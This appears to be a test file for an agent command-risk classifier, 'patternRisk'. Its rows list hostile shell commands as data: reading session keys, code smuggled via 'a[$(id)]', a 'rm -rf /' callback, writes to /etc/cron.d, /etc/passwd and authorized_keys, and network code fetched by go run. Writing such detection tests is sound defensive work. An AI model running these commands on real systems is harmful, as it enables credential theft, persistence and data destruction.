import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { compareRisk, type SecurityRisk } from '@slipway/protocol'
import { parseJson } from '@slipway/shared/json'
import { expect, test } from 'vitest'
import { patternRisk } from './risk.ts'
import type { ServerPlace } from './server-access.ts'

/** A server whose data directory tools can see. */
const server: ServerPlace = {
  port: undefined,
  directories: ['/srv/agents/data', '/home/ann/.config/slipway'],
  workspace: '/srv/agents/work',
  isReserved: (path) => /^(?:\/srv\/agents\/data|\/home\/ann\/\.config\/slipway)(?:\/|$)/.test(path),
}

const rows: readonly (readonly [what: string, least: SecurityRisk, command: string])[] = [
  ['the key after cd', 'HIGH', 'cd /srv/agents && cat data/session.key'],
  ['data without a telling name after cd', 'HIGH', 'cd /srv/agents && cat data/log.db'],
  ['data after two of them', 'HIGH', 'cd /srv; cd agents; cp data/x .'],
  ['data after pushd', 'HIGH', 'pushd ../data; cat x; popd'],
  ['the key after pushd', 'HIGH', 'pushd ~/.local/share/slipway; cat session.key'],
  ['the key by find', 'HIGH', 'find / -name session.key -exec cat {} +'],
  ['all keys by find', 'MEDIUM', "find /srv -name '*.key' -exec cat {} +"],
  ['everything by find', 'MEDIUM', 'find / -type f -exec head -c 99 {} +'],
  ['everything by find with options', 'MEDIUM', 'find -L -O3 -D tree / -exec head {} +'],
  ['everything by find after another folder', 'MEDIUM', 'find x / -exec head {} +'],
  ['everything by fd with options', 'MEDIUM', 'fd -t f . / -x head'],
  ['everything by grep', 'MEDIUM', 'grep -r . ~'],
  ['everything above the data by grep', 'MEDIUM', 'grep -rn key /srv/agents'],
  ['everything above by grep after cd', 'MEDIUM', 'cd /srv && grep -rn key .'],
  ['everything above the data by tar', 'MEDIUM', 'tar cf x.tar /srv/agents'],
  ['a home directory by tar', 'MEDIUM', 'tar -czf x.tgz -C /tmp ~'],
  ['everything above the data by cp', 'MEDIUM', 'cp -r /srv/agents copy'],
  ['everything above the data by cp -t', 'MEDIUM', 'cp -r -t x /srv/agents'],
  ['everything above the data by cp and --target', 'MEDIUM', 'cp -r --target-directory=x /srv/agents'],
  ['a home directory by cp -t', 'MEDIUM', 'cp -rt x ~ y'],
  ['everything above the data by rsync', 'MEDIUM', 'rsync -a /home/ann/.config copy'],
  ['the key by a link', 'HIGH', 'ln -s /srv/agents l; cat l/data/session.key'],
  ['the data by a link', 'HIGH', 'ln -s /srv/agents/data l; cat l/log.db'],
  ['the key by xargs', 'HIGH', 'echo session.key | xargs cat'],
  ['the key by find and xargs', 'HIGH', 'find / -name session.key | xargs cat'],
  ['the key by a pattern', 'HIGH', 'cat x/sess*'],
  ['the key by a pattern with an end', 'HIGH', 'cat x/s*/../session?*ey'],
  ['the key by a pattern with a class', 'HIGH', 'cat x/sessi[o:,]n.key'],
  ['the key by an extended pattern', 'HIGH', 'cat x/ses?(sion.key)'],
  ['an older key by a pattern', 'HIGH', 'cat x/secret*key'],
  ['keys of a known folder by git', 'HIGH', 'git add .slip*/ses*'],
  ['contexts of the command', 'HIGH', 'cat ~/.config/slipway/contexts.json'],
  ['code in [[ -v', 'HIGH', "[[ -v 'a[$(id)]' ]]"],
  ['an unknown name in [[ -v', 'MEDIUM', '[[ -v $x ]]'],
  ['code in a number of [[', 'HIGH', "[[ 'a[$(id)]' -eq 1 ]]"],
  ['code in test -v', 'HIGH', "test -v 'a[$(id)]'"],
  ['an unknown name in test -v', 'MEDIUM', 'test -v "$x"'],
  ['code in [ -v', 'HIGH', "[ -v 'a[`id`]' ]"],
  ['code in arithmetic', 'HIGH', 'echo $(( a[\\$(id)] ))'],
  ['quoted code in arithmetic', 'HIGH', "(( x = a['$(id)'] ))"],
  ['code in a variable for arithmetic', 'HIGH', "x='a[$(id)]'; echo $((x))"],
  ['code in printf -v', 'HIGH', "printf -v 'a[$(id)]' x"],
  ['code in attached printf -v', 'HIGH', "printf -v'a[$(id)]' x"],
  ['an unknown name in printf -v', 'MEDIUM', 'printf -v "$n" x'],
  ['a pager by printf -v', 'MEDIUM', 'export PAGER; printf -v PAGER %s CMD; git log'],
  ['code in let', 'HIGH', "let 'a[$(id)]=1'"],
  ['code in unset', 'HIGH', "unset 'a[$(id)]'"],
  ['an unknown name in unset', 'MEDIUM', 'unset "$x"'],
  ['code in read', 'HIGH', "read 'a[$(id)]' <<< x"],
  ['a search path by read', 'MEDIUM', 'read PATH <<< /tmp/x; ls'],
  ['an unknown name in read', 'MEDIUM', 'read "$x"'],
  ['a reference by declare -n', 'MEDIUM', 'declare -n r=PATH; r=/tmp/x; ls'],
  ['code in declare -n', 'HIGH', "declare -n r='a[$(id)]'; echo $r"],
  ['code in declare', 'HIGH', "declare 'a[$(id)]=1'"],
  ['code in read with an option without a value', 'HIGH', "read -s 'a[$(id)]' <<< 1"],
  ['code in read with an attached value', 'HIGH', "read -pd 'a[$(id)]'"],
  ['code in mapfile -t', 'HIGH', "mapfile -t 'a[$(id)]' < f"],
  ['code in declare -i', 'HIGH', "declare -i 'a[$(id)]=1'"],
  ['code in unset -n', 'HIGH', "unset -n 'a[$(id)]'"],
  ['an unknown name in export -n', 'MEDIUM', 'export -n "$x"'],
  ['a callback of mapfile among other options', 'MEDIUM', 'mapfile -tC ls -c 1 x < f'],
  ['a callback of mapfile', 'MEDIUM', 'mapfile -C ls -c 1 x < f'],
  ['a dangerous callback of mapfile', 'HIGH', "mapfile -C 'rm -rf / #' -c 1 x < f"],
  ['code by the expansion of a prompt', 'HIGH', `x='$(id)'; echo "\${x@P}"`],
  ['a program for another name', 'MEDIUM', 'hash -p /tmp/x ls; ls'],
  ['a program of compgen', 'MEDIUM', 'compgen -C CMD'],
  ['less runs a program', 'MEDIUM', "less '+!CMD' f"],
  ['less reads a key file', 'MEDIUM', 'less -k keys f'],
  ['gawk loads a library', 'MEDIUM', "gawk -l ./x 'BEGIN {}'"],
  ['gawk includes a file', 'MEDIUM', "gawk -i ./x 'BEGIN {}'"],
  ['openssl loads an engine', 'MEDIUM', 'openssl engine -t ./x.so'],
  ['openssl loads an engine by an option', 'MEDIUM', 'openssl dgst -engine ./x.so f'],
  ['cargo has a setting', 'MEDIUM', 'cargo --config \'build.rustc-wrapper="x"\' build'],
  ['cargo has a setting after the command', 'MEDIUM', 'cargo build --config x.toml'],
  ['cargo gives the compiler a linker', 'MEDIUM', 'cargo rustc -- -C linker=./x'],
  ['cargo gives the compiler a linker, attached', 'MEDIUM', 'cargo rustc -- -Clinker=./x'],
  ['cargo has an unknown command', 'MEDIUM', 'cargo frobnicate'],
  ['go stores a setting', 'MEDIUM', 'go env -w CC=./x'],
  ['go stores a setting, otherwise written', 'MEDIUM', 'go -C=x env --w=true CC=./x'],
  ['go stores a setting in another directory', 'MEDIUM', 'go -C test env -w CC=./x'],
  ['go runs a program of the network after --', 'MEDIUM', 'go run -- example.com/x@latest'],
  ['date sets the clock', 'MEDIUM', 'date -us 12:00'],
  ['date sets the clock by a short name of the option', 'MEDIUM', 'date --se=12:00'],
  ['go runs a program of the network', 'MEDIUM', 'go run example.com/x@latest'],
  ['git has an unknown command', 'MEDIUM', 'git frobnicate'],
  ['git pushes by force with another directory', 'HIGH', 'git --git-dir .git push --force'],
  ['git pushes by force with another namespace', 'HIGH', 'git --namespace x push --force'],
  ['git pushes by force with a setting', 'HIGH', 'git --config-env a.b=C push --force'],
  ['git resets with another work tree', 'MEDIUM', 'git --work-tree . reset --hard'],
  ['dc runs a program', 'MEDIUM', "dc -e '!CMD'"],
  ['gcc has a wrapper', 'MEDIUM', 'gcc -wrapper ./x a.c'],
  ['java has an agent', 'MEDIUM', 'java -javaagent:x.jar Main'],
  ['sort writes a file of the home directory', 'MEDIUM', 'sort x -o ~/.bashrc'],
  ['sort writes a file of the system', 'HIGH', 'sort --output=/etc/passwd x'],
  ['sort writes what configures agents', 'HIGH', 'sort -uo .openhands/hooks.json x'],
  ['uniq writes a file of the home directory', 'MEDIUM', 'uniq x ~/.profile'],
  ['uniq writes a file of the system', 'HIGH', 'uniq x /etc/cron.d/x'],
  ['git writes a file of the home directory', 'MEDIUM', 'git diff --output=/root/.bashrc'],
  ['git writes a file of the system', 'HIGH', 'git log --output /etc/x -1'],
  ['git writes a file of the system from elsewhere', 'HIGH', 'git -C sub diff --output=/etc/cron.d/x'],
  ['a compiler writes a file of the system', 'HIGH', 'gcc -o /usr/bin/ls a.c'],
  ['git writes a file below its directory', 'HIGH', 'git -C /etc diff --output=cron.d/x'],
  ['git checks out below its directory', 'HIGH', 'git --work-tree=/etc checkout x'],
  ['go writes a file below its directory', 'HIGH', 'go -C /etc build -o cron.d/x'],
  ['env enters a directory of the system', 'HIGH', 'env -C /etc sort -o cron.d/x y'],
  ['env enters a directory of the system by a long option', 'HIGH', 'env --chdir=/etc touch cron.d/x'],
  ['a redirection in a directory of the system', 'HIGH', 'cd /etc && echo x > cron.d/x'],
  ['a redirection below the root', 'HIGH', 'cd / && echo x > etc/cron.d/x'],
  ['a redirection in a directory that was entered in steps', 'HIGH', 'cd /; cd etc; echo x > cron.d/x'],
  ['tee in a directory of the system', 'HIGH', 'cd /etc; echo x | tee cron.d/x'],
  ['a copy into a directory of the system', 'HIGH', 'cd /etc && cp ~/x cron.d/x'],
  ['sed in a directory of the system', 'HIGH', 'pushd /etc; sed -i s/a/b/ passwd'],
  ['sort in a directory of the system', 'HIGH', '(cd /usr/bin; sort -o ls x)'],
  ['a setting of the home directory', 'MEDIUM', 'cd ~ && echo x >> .bashrc'],
  ['a setting of the home directory without its name', 'MEDIUM', 'cd; echo x >> .bashrc'],
  ['a setting of a home directory by its path', 'MEDIUM', 'cd /root; echo x >> .bashrc'],
  ['a key for signing in', 'HIGH', 'cd ~/.ssh && cat x >> authorized_keys'],
]

test.each(rows)('%s is at least %s: %s', async (_, least, command) => {
  expect(
    compareRisk(await patternRisk(command, server), least),
    await patternRisk(command, server),
  ).toBeGreaterThanOrEqual(0)
})

test('what is read elsewhere, and what is changed after a return, is not changed elsewhere', async () => {
  for (const command of [
    'cd /etc && ls cron.d && cat hosts',
    'cd /etc && cat hosts; cd /srv/project && echo x > notes.txt',
    'cd sub && echo x > notes.txt',
    'cd /tmp && touch x',
    'git -C sub diff --output=x',
    'grep -C 3 x notes.txt > found.txt',
  ])
    expect(await patternRisk(command, server), command).toBe('LOW')
})

test.each([
  ['(cd /etc; ls); echo x > a', 'LOW'],
  ['( (cd /etc); ls ); echo x > a', 'LOW'],
  ['echo $(cd /etc; ls) > a; echo x > b', 'LOW'],
  ['echo `cd /etc; ls` > a; echo x > b', 'LOW'],
  ['diff <(cd /etc; ls) list; echo x > a', 'LOW'],
  ['cd /etc | cat; echo x > a', 'LOW'],
  ['true | cd /etc; echo x > a', 'LOW'],
  ['cd /etc & echo x > a', 'LOW'],
  ['bash -c "cd /etc; ls"; echo x > a', 'LOW'],
  ['env -C /etc ls; echo x > a', 'LOW'],
  ['{ cd /etc; ls; }; echo x > a', 'HIGH'],
  ['(cd /etc; echo x > a); echo x > b', 'HIGH'],
  ['cd /etc; (echo x > a)', 'HIGH'],
  ['cd /etc; (cd cron.d; ls); echo x > a', 'HIGH'],
  ['cd /; ( (cd etc; echo x > a) )', 'HIGH'],
  ['cd /etc | tee a; cd /etc; true | tee a', 'HIGH'],
  ['echo $(cd /etc; echo x > a)', 'HIGH'],
  ['cd /etc && echo x | tee a', 'HIGH'],
  ['cd /etc; echo x > a & wait', 'HIGH'],
  ['cd /etc; bash -c "echo x > a"', 'HIGH'],
  ['bash -c "cd /etc; echo x > a"', 'HIGH'],
  ['command cd /etc; echo x > a', 'HIGH'],
  ['builtin cd /etc; echo x > a', 'HIGH'],
  ['eval "cd /etc"; echo x > a', 'HIGH'],
  ['time cd /etc; echo x > a', 'HIGH'],
  ['if cd /etc; then echo x > a; fi', 'HIGH'],
  ['env -C /etc bash -c "echo x > a"', 'HIGH'],
  ['env -C / env -C etc touch a', 'HIGH'],
] as const)(
  'a directory is entered by the shell process alone that does it: %s is %s',
  async (command, risk) => {
    expect(await patternRisk(command, server)).toBe(risk)
  },
)

test('what programs do not see may be searched for', async () => {
  for (const command of ['grep -rn key /srv/agents', 'cp -r /srv/agents copy'])
    expect(await patternRisk(command, { ...server, isHidden: true }), command).toBe('LOW')
})

/** How many of the commands are at least MEDIUM. */
async function countQuestions(commands: readonly string[]): Promise<number> {
  const risks = await Promise.all(commands.map((command) => patternRisk(command, server)))
  return risks.filter((risk) => risk !== 'LOW').length
}

/** Before unknown options, sub-commands and hidden code counted, these were 89 of 639. */
test('questions about everyday commands stay below a tenth more', async () => {
  const text = readFileSync(join(import.meta.dirname, 'testing/everyday-commands.txt'), 'utf8')
  const commands = text
    .trim()
    .split('\n')
    .map((line) => line.replaceAll('\\n', '\n'))
  expect(commands.length).toBeGreaterThanOrEqual(500)
  expect(await countQuestions(commands)).toBeLessThanOrEqual(97)
})

const recordings = process.env.SLIPWAY_DATA

/** They were 16 of 219. */
test.skipIf(recordings === undefined)('so do questions about recorded commands', async () => {
  const folder = recordings ?? ''
  const lines = readdirSync(folder)
    .filter((name) => name.endsWith('.jsonl'))
    .flatMap((name) => readFileSync(join(folder, name), 'utf8').split('\n'))
  const commands = lines.flatMap((line) => {
    const { kind, command } = Object(Object(parseJson(line)).action)
    return typeof command === 'string' && /^(?:ExecuteBash|Terminal)Action$/.test(kind) ? [command] : []
  })
  expect(await countQuestions(commands)).toBeLessThanOrEqual(commands.length * 0.08)
})
